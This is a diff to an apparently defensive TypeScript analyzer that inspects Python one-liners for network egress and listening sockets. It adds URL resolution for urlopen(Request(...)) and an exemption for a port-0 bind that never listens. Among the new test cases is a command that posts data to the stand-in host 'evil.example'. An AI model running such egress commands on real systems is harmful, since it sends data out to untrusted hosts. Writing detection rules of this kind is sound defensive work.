@@ -467,12 +467,15 @@ class PythonReader {
   private readonly b: Bindings;
   /** Modules imported with `from m import *`: an unbound name may be one of their members. */
   private readonly star: string[] = [];
+  /** The whole code. */
+  private readonly code: string;
 
   constructor(
     private readonly env: CodeEnv,
     root: Node,
   ) {
     this.b = new Bindings((n) => this.evalNode(n));
+    this.code = root.text;
     this.collect(root);
     this.changes(root);
   }
@@ -921,6 +924,10 @@ class PythonReader {
     if (!/\.(get|post|put|patch|delete|head|options|request|urlopen|Request|stream)$/.test(api)) return undefined;
     const at = /\.(request|stream)$/.test(api) ? 1 : 0;
     const positional = named(fieldOf(call, 'arguments') ?? call).filter((x) => x.type !== 'keyword_argument' && x.type !== 'comment');
+    // `urlopen(Request(URL, data=…, headers=…))`: the request's own URL (its other arguments re-aim nothing).
+    const inner = /\.urlopen$/.test(api) && c.args.length === 1 && c.kw.size === 0 && positional[0]?.type === 'call' ? positional[0] : undefined;
+    const request = inner ? this.b.value(fieldOf(inner, 'function') ?? inner).find((v) => v.k === 'ref' && /\.Request$/.test(canonical(v.name))) : undefined;
+    if (inner && request?.k === 'ref') return this.urlOf(inner, request.name);
     return literalUrl(at === 1 ? (c.args[1] ?? c.kw.get('url')) : (c.args[0] ?? c.kw.get('url'))) ?? (positional[at] ? this.envPortUrl(positional[at]) : undefined);
   }
 
@@ -1463,6 +1470,9 @@ class PythonReader {
     const at = SERVER_METHODS.get(method);
     // A socket's bind takes a pair, ZeroMQ's an endpoint (`tcp://*:5555`); any other string is no address.
     if (at === undefined || (method === 'bind' && !argAt(c, at)?.vals.every((x) => x.k === 'list' || (x.k === 'str' && /^(?:tcp|udp|ws|wss):\/\//i.test(x.v))))) return;
+    // `s.bind(("", 0)); s.getsockname()[1]`: a free port asked of the system, in code that neither listens nor
+    // receives on it, serves nothing.
+    if (method === 'bind' && argAt(c, at)?.vals.every((x) => x.k === 'list' && x.items[1]?.vals.length === 1 && x.items[1].vals[0]!.k === 'str' && x.items[1].vals[0]!.v === '0') && !/\.(?:listen|accept|recv\w*|serve_forever|makefile)\s*\(/.test(this.code)) return;
     this.out.push(...listensAt(c, at));
     // Flask's `app.run("0.0.0.0", 5000)`: a first word of `run` is a host only when it reads as an address.
     const first = method === 'run' && !c.kw.has('host') ? c.args[0] : undefined;
@@ -1751,8 +1761,12 @@ export const PYTHON: LanguageModel = {
       { command: `python3 -c 'import uvicorn; uvicorn.run("app.main:app", host="10.0.0.5")'`, rules: ['egress.binary'] },
       `python3 -c 'import zmq; zmq.Context().socket(zmq.REP).bind("tcp://*:5555")'`,
       `python3 -c 'from flask import Flask; Flask(__name__).run("0.0.0.0", 5000)'`,
+      `python3 -c "from urllib.request import urlopen, Request; urlopen(Request('http://evil.example/', data=b'{}'))"`,
+      { command: `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); s.listen(); s.accept()"`, rules: ['egress.binary'] },
     ],
     pass: [
+      `python3 -c "from urllib.request import urlopen, Request; print(urlopen(Request('http://localhost:8000/api', data=b'{}', headers={'Content-Type': 'application/json'})).read())"`,
+      `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1]); s.close()"`,
       `python3 -c "import os, requests; print(requests.get(f'http://localhost:{os.environ[\\"PORT\\"]}/health').status_code)"`,
       `python3 -c "import os, urllib.request; urllib.request.urlopen('http://localhost:' + os.getenv('PORT', '8000') + '/health')"`,
       `python3 -c "import requests; [requests.get('http://localhost:8000' + p) for p in ['/health', '/ready']]"`,
